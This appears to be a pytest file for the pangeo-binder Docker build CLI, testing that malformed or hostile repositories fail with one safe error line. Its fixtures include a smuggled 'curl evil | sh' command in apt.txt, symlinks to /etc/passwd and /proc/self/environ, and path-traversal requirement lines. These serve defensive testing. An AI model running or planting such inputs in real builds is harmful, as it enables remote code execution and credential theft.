"""Bad input through the real CLI: one clear line on stderr, a non-zero exit, no traceback,
nothing left behind. None of these reach Docker."""

import json
import os
import subprocess
import sys

import pytest

from pangeo_binder.builder.lock import load_base_lock
from tests.helpers.cli import run_cli
from tests.helpers.repos import git_repo, write_tree


def build_fails(tmp_path, *args, env=None):
    scratch = tmp_path / "tmpdir"
    scratch.mkdir(exist_ok=True)
    result = run_cli("build", *args, env={"TMPDIR": str(scratch), **(env or {})})
    assert result.returncode == 1, result
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert lines[-1].startswith("pangeo-binder: error: ")
    assert list(scratch.iterdir()) == []  # no temp dir left behind
    return lines[-1]


def test_missing_directory(tmp_path):
    assert "no such directory" in build_fails(tmp_path, str(tmp_path / "nope"))


def test_malformed_shorthand(tmp_path):
    assert "expected gh:org/repo[@ref]" in build_fails(tmp_path, "gh:just-an-org")


def test_unknown_ref(tmp_path):
    remote = git_repo(tmp_path / "remote", {"a.ipynb": "{}"})
    line = build_fails(tmp_path, remote.as_uri(), "--ref", "no-such-branch")
    assert "ref 'no-such-branch' not found" in line


def test_unreachable_repository(tmp_path):
    line = build_fails(tmp_path, (tmp_path / "gone").as_uri())
    assert "cannot read" in line


def test_bad_apt_name(tmp_path):
    repo = write_tree(tmp_path / "repo", {"binder/apt.txt": "nco\nnco && curl evil | sh\n"})
    assert "binder/apt.txt line 2" in build_fails(tmp_path, str(repo))


def test_two_conda_environment_files_are_refused(tmp_path):
    repo = write_tree(tmp_path / "repo", {"environment.yml": "dependencies: [xarray]\n",
                                          "environment.yaml": "dependencies: [xarray]\n"})
    assert "both environment.yml and environment.yaml exist" in build_fails(
        tmp_path, str(repo))


def test_strict_base_refuses_a_pin_conflict_naming_the_package_and_both_versions(tmp_path):
    repo = write_tree(tmp_path / "repo", {"binder/requirements.txt": "dask==2022.1.0\n"})
    line = build_fails(tmp_path, str(repo), env={"PANGEO_BINDER_STRICT_BASE": "1"})
    assert "dask==2022.1.0" in line and f"dask=={load_base_lock().pins['dask']}" in line


def test_docker_not_running(tmp_path):
    repo = write_tree(tmp_path / "repo", {"a.ipynb": "{}"})
    line = build_fails(tmp_path, str(repo),
                       env={"DOCKER_HOST": f"unix://{tmp_path}/no-docker.sock"})
    assert "Docker is not running" in line


def test_json_logs_end_in_a_failed_phase(tmp_path):
    repo = write_tree(tmp_path / "repo", {"binder/runtime.txt": "python-2.7\n"})
    result = run_cli("build", "--json-logs", str(repo))
    assert result.returncode == 1
    events = [json.loads(line) for line in result.stdout.splitlines()]
    assert events[0]["phase"] == "fetching"
    assert events[-1]["phase"] == "failed"
    assert "python-2.7" in events[-1]["message"]
    assert all(set(e) == {"phase", "message"} for e in events)
    assert [e["phase"] for e in events].count("failed") == 1
    assert result.stderr == ""  # every line is JSON, the error's line is the last event


@pytest.mark.parametrize("args", [["build"], ["build", "x", "--no-such-flag"],
                                  ["build", "--no-such-flag"], ["nope"]])
def test_usage_errors_exit_2(args):
    result = run_cli(*args)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr


def test_build_and_an_option_alone_is_the_clis():
    """`build WORD` is tried as an unchanged directory before the CLI loads only when
    WORD is no option."""
    result = run_cli("build", "--help")
    assert result.returncode == 0 and result.stdout.startswith("Usage: ")
    assert "--json-logs" in result.stdout


def repo2docker(*args: str) -> subprocess.CompletedProcess[str]:
    """The builder's `jupyter-repo2docker`, as a build pod runs it."""
    return subprocess.run([sys.executable, "-m", "pangeo_binder.builder.repo2docker", *args],
                          capture_output=True, text=True, check=False)


def test_repo2docker_options_binderhub_does_not_pass_are_refused():
    result = repo2docker("--ref=main", "--image=x:y", "--no-run", "--volume", "/a:/b",
                         "https://example.org/r")
    assert result.returncode == 2
    assert result.stderr.strip().splitlines() == [
        "jupyter-repo2docker (pangeo-binder): error: unsupported repo2docker option "
        "--volume: this builder accepts only what BinderHub's build pods pass (see --help)"]


def test_repo2docker_refuses_another_notebook_user_and_running():
    other_user = repo2docker("--image=x:y", "--no-run", "--user-id=1001", "https://e.org/r")
    assert other_user.returncode == 2
    assert "always jovyan (uid 1000)" in other_user.stderr
    run = repo2docker("--image=x:y", "https://example.org/r")
    assert run.returncode == 2 and "pass --no-run" in run.stderr


def test_repo2docker_bad_repository_ends_the_json_stream_in_failed(tmp_path):
    result = repo2docker("--image=x:y", "--no-run", "--json-logs", str(tmp_path / "nope"))
    assert result.returncode == 1
    events = [json.loads(line) for line in result.stdout.splitlines()]
    assert events == [{"phase": "failed", "message": f"no such directory: {tmp_path / 'nope'} "
                       "(expected a directory, a git URL or gh:org/repo)\n"}]
    assert result.stderr == ""


def test_repo2docker_json_logs_refusals_are_json_too():
    result = repo2docker("--image=x:y", "--no-run", "--json-logs", "--volume", "/a:/b",
                         "https://example.org/r")
    assert result.returncode == 2 and result.stderr == ""
    assert [json.loads(line) for line in result.stdout.splitlines()] == [{
        "phase": "failed", "message": "jupyter-repo2docker (pangeo-binder): error: unsupported "
        "repo2docker option --volume: this builder accepts only what BinderHub's build pods "
        "pass (see --help)\n"}]


# A repository is untrusted input: its binder files are read only when they are regular
# files inside it, and nothing they name outside it reaches a message or a log.

def linked_repo(tmp_path, name: str, target: str):
    repo = write_tree(tmp_path / "linked", {"analysis.ipynb": "{}"})
    (repo / name).parent.mkdir(parents=True, exist_ok=True)
    (repo / name).symlink_to(target)
    return repo


@pytest.mark.parametrize("name, target", [
    ("binder/apt.txt", "/etc/passwd"),
    ("binder/runtime.txt", "/etc/passwd"),
    ("binder/requirements.txt", "../../../../../../../../etc/passwd"),
    ("binder/environment.yml", "/etc/passwd"),
    ("binder/conda-lock.yml", "/etc/passwd"),
])
def test_a_binder_file_linked_out_of_the_repository_is_refused_unread(tmp_path, name, target):
    line = build_fails(tmp_path, str(linked_repo(tmp_path, name, target)))
    assert line.endswith(f"{name} is a link to outside the repository; binder files must "
                         "be regular files in the repository"), line
    assert "root:" not in line  # /etc/passwd's first line


def test_the_builders_environment_never_reaches_the_build_log(tmp_path):
    """On a BinderHub build pod, /proc/self/environ holds the builder's credentials."""
    repo = linked_repo(tmp_path, "binder/apt.txt", "/proc/self/environ")
    secret = "s3cret-registry-password"
    scratch = tmp_path / "tmpdir"
    scratch.mkdir()
    result = run_cli("build", str(repo), "--json-logs",
                     env={"TMPDIR": str(scratch), "BUILDER_TOKEN": secret})
    assert result.returncode == 1
    assert secret not in result.stdout + result.stderr
    assert "is a link to outside the repository" in result.stdout.splitlines()[-1]


def test_a_binder_file_that_is_no_regular_file_is_refused(tmp_path):
    repo = write_tree(tmp_path / "fifo", {"analysis.ipynb": "{}"})
    (repo / "binder").mkdir()
    os.mkfifo(repo / "binder" / "apt.txt")  # reading it would block forever
    assert build_fails(tmp_path, str(repo)).endswith("binder/apt.txt is not a regular file")


def test_an_oversized_binder_file_is_refused(tmp_path):
    repo = write_tree(tmp_path / "big", {"binder/requirements.txt": "#" * (2 << 20)})
    assert build_fails(tmp_path, str(repo)).endswith(
        "binder/requirements.txt is larger than 1 MiB")


@pytest.mark.parametrize("line", ["evil @ file:///opt/evil", "evil@file:../evil",
                                  "file:///opt/evil", "/opt/evil", "-e ..", "-e /opt"])
def test_a_requirement_from_outside_the_repository_is_refused(tmp_path, line):
    repo = write_tree(tmp_path / "local", {"binder/requirements.txt": f"{line}\n"})
    assert "installs from outside the repository" in build_fails(tmp_path, str(repo))


def test_credentials_in_a_git_url_never_reach_a_message(tmp_path):
    line = build_fails(tmp_path, "https://ada:tok3n-secret@127.0.0.1:9/private/repo.git")
    assert "tok3n-secret" not in line and "ada:" not in line
    assert "https://127.0.0.1:9/private/repo.git" in line


def test_json_logs_make_warnings_and_log_records_events_and_end_in_one_line():
    """With JSON logs nothing else reaches stdout or stderr: BinderHub reads every line."""
    script = """
import logging, warnings
from pangeo_binder.progress import Reporter, run_stage
from pangeo_binder.errors import PangeoBinderError

def stage():
    warnings.warn("deprecated thing")
    logging.getLogger("urllib3.connectionpool").warning("Connection pool is full")
    raise PangeoBinderError("it broke\\non two lines")

run_stage(Reporter(True, False), stage)
"""
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                            check=False)
    assert result.returncode == 1 and result.stderr == ""
    assert [json.loads(line) for line in result.stdout.splitlines()] == [
        {"phase": "fetching", "message": "UserWarning: deprecated thing\n"},
        {"phase": "fetching", "message": "warning: Connection pool is full\n"},
        {"phase": "failed", "message": "it broke on two lines\n"}]


@pytest.mark.parametrize(("name", "text", "expected"), [
    ("Pipfile.lock", '{"default": {"xarray": {"version": "==2026.9.0",',
     "binder/Pipfile.lock is not valid JSON: line 1"),
    ("Pipfile", "[packages]\nx = {path = '../..'}\n",
     "binder/Pipfile installs '../..', outside the repository"),
    ("uv.lock", "version = 1\nrequires-python = '>=3.16'\n",
     "binder/uv.lock asks for Python >=3.16; pangeo-binder builds Python 3.10 to 3.15"),
])
def test_a_bad_project_file_is_one_line_naming_it(tmp_path, name, text, expected):
    repo = write_tree(tmp_path / "repo", {f"binder/{name}": text, "a.ipynb": "{}"})
    line = build_fails(tmp_path, str(repo),
                       env={"DOCKER_HOST": f"unix://{tmp_path}/no-docker.sock"})
    assert expected in line


def test_a_python_no_source_has_is_one_line_naming_the_pythons_to_be_had(tmp_path):
    repo = write_tree(tmp_path / "repo", {"runtime.txt": "python-3.9\n"})
    assert build_fails(tmp_path, str(repo)) == (
        "pangeo-binder: error: runtime.txt asks for python-3.9, which no source has; the "
        "Pythons to be had are 3.11 (Debian bookworm), 3.13 (Debian trixie), 3.14 and 3.15 "
        "(Debian sid), 3.10 and 3.12 (uv's managed Python, downloaded in the build); the "
        "Pangeo base runs python-3.11")
